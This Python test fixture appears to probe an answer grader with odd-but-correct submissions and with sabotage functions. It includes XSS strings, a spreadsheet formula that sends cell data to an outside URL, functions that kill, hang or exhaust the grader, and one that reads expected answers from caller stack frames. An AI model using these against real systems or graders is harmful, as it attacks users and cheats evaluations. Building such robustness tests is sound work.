"""Right answers in an odd form, which stay right; and functions that do odd things when they are called."""

from __future__ import annotations

from corpus.case import EITHER, Expected, but, cases, end

STILL_RIGHT = r"""
## real: a subclass of float is the float that it is
class Same(float):
    __eq__ = lambda self, other: False
    __hash__ = __float__ = __repr__ = __abs__ = lambda self: 1 / 0

top_share = Same(top_share)
## decimal: exact numbers are numbers
import decimal
top_share = decimal.Decimal(str(top_share))
## fraction: exact numbers are numbers
import fractions
top_share = fractions.Fraction(top_share)
## numpy: numbers of other widths
import numpy as np
top_share, buyers = np.float32(top_share), np.int16(buyers)
## zero_dimensional: an array of one number without a length
import numpy as np
top_share = np.array(top_share)
## frame_subclass: a subclass of a table is the table that it is
import pandas as pd

class Table(pd.DataFrame):
    equals = __eq__ = lambda self, other: False

by_channel = Table(by_channel)
## other_order: rows and columns as they came
by_channel = by_channel.sample(frac=1, random_state=0)[["revenue", "channel"]]
## other_types: the same values in other columns
by_channel = by_channel.astype({"channel": "category", "revenue": "float32"})
## whole_figure: the figure in the place of its axes
curve = fig
## callable_object: an instance in the place of a function
class Spread:
    def __call__(self, values):
        return max(values) - min(values)

spread = Spread()
## partial: a function with some arguments given
import functools
spread = functools.partial(lambda factor, values: (values.max() - values.min()) * factor, 1)
## function_that_prints: and warns
import warnings

def spread(values):
    print("x" * 100_000)
    warnings.warn("careful")
    return values.max() - values.min()
## function_that_spoils_its_data: what it is given is its own
def spread(values):
    answer = values.max() - values.min()
    values[:] = 0
    return answer
## function_of_names: that are looked up when it is called
import numpy as np

def least(values):
    return np.min(values)

def spread(values):
    return np.max(values) - least(values)
## advice_of_markup: shown as what it is
advice = "<script>alert(1)</script><img src=x onerror=alert(1)>" + '"\'&amp;'
## advice_of_half_letters: which no file takes
advice = "heavy \ud83d buyers \udc00\x00\x1b[31m\u202e"
## advice_for_a_spreadsheet: which takes it for a formula
advice = '=HYPERLINK("http://example.org?"&A1,"click")'
## advice_of_lines: and separators
advice = 'a;b,c\td\n"e"\r\nf\u2028g'
## advice_of_megabytes: the longest there is
advice = "Write to the heavy buyers. " * 200_000
## advice_of_a_subclass: which cannot be looked at
class Word(str):
    __str__ = __repr__ = strip = __len__ = lambda self, *_: 1 / 0

advice = Word("Write to the heavy buyers.")
"""

FUNCTION = r"""
## raises: at each call
def spread(values):
    raise ValueError("<script>")
## exits: at each call
def spread(values):
    raise SystemExit(0)
## hangs: at each call
def spread(values):
    while True:
        pass
## hangs_and_swallows: whatever is thrown at it
def spread(values):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
## kills: at each call
import os

def spread(values):
    os._exit(0)
## recurses: until the stack is used up
def spread(values):
    return spread(values)
## eats_memory: until none is left
def spread(values):
    kept = []
    while True:
        kept.append(bytearray(10**8))
## is_awaited: by nobody
async def spread(values):
    return values.max() - values.min()
## yields: and never returns
def spread(values):
    yield values.max() - values.min()
## looks_for_what_is_wanted: in the frames above
def spread(values):
    import sys
    frame = sys._getframe()
    while frame := frame.f_back:
        for name in ("wanted", "expected", "reference", "right"):
            if name in frame.f_locals:
                return frame.f_locals[name]
    return -1
## takes_nothing: and cannot be called so
def spread():
    return 2.0
## answers_with_itself: again and again
def spread(values):
    return spread
"""

CASES = (
    *cases("still_right", STILL_RIGHT, end, EITHER),
    *cases("function", FUNCTION, end, Expected("ok|partial", but(h1_4="wrong"), None)),
)
